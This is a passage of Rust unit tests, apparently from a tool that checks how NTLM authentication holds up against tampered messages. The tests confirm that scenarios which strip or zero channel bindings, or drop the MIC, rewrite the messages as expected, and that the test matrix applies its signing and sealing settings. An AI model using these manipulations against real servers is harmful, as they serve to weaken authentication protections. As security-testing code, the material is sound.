            .map(|&o| u32::from_le_bytes(m[o..o + 4].try_into().unwrap()))
            .min();
        assert_eq!(first, Some(64));
    }

    #[test]
    fn channel_binding_rewrites() {
        let cb = |m: &[u8]| {
            let a = AuthenticateMessage::parse(m).unwrap();
            let v2 = NtlmV2Response::parse(a.nt_response.as_deref().unwrap()).unwrap();
            v2.client_challenge
                .av_pairs
                .get(AvId::CHANNEL_BINDINGS)
                .map(|p| p.value.to_vec())
        };
        assert_eq!(cb(&delivered(Scenario::StripChannelBindings)), None);
        assert_eq!(
            cb(&delivered(Scenario::ZeroChannelBindings)),
            Some(vec![0; 16])
        );
        assert_eq!(
            cb(&delivered(Scenario::DropMic)),
            Some(CHANNEL_BINDINGS.to_vec())
        );
    }

    #[test]
    fn matrix_columns_apply_their_settings() {
        let cols = matrix_columns(&Settings::default());
        assert_eq!(cols.len(), COLUMN_LEGEND.len());
        for (c, (name, _)) in cols.iter().zip(COLUMN_LEGEND) {
            assert_eq!(c.name, name);
        }
        let all = &cols.last().unwrap().settings;
        assert!(all.sign && all.seal && all.cbt == Some(Cbt::Require));
        assert_eq!(all.server_min.unwrap().bits(), 0x2008_0000);
    }
}
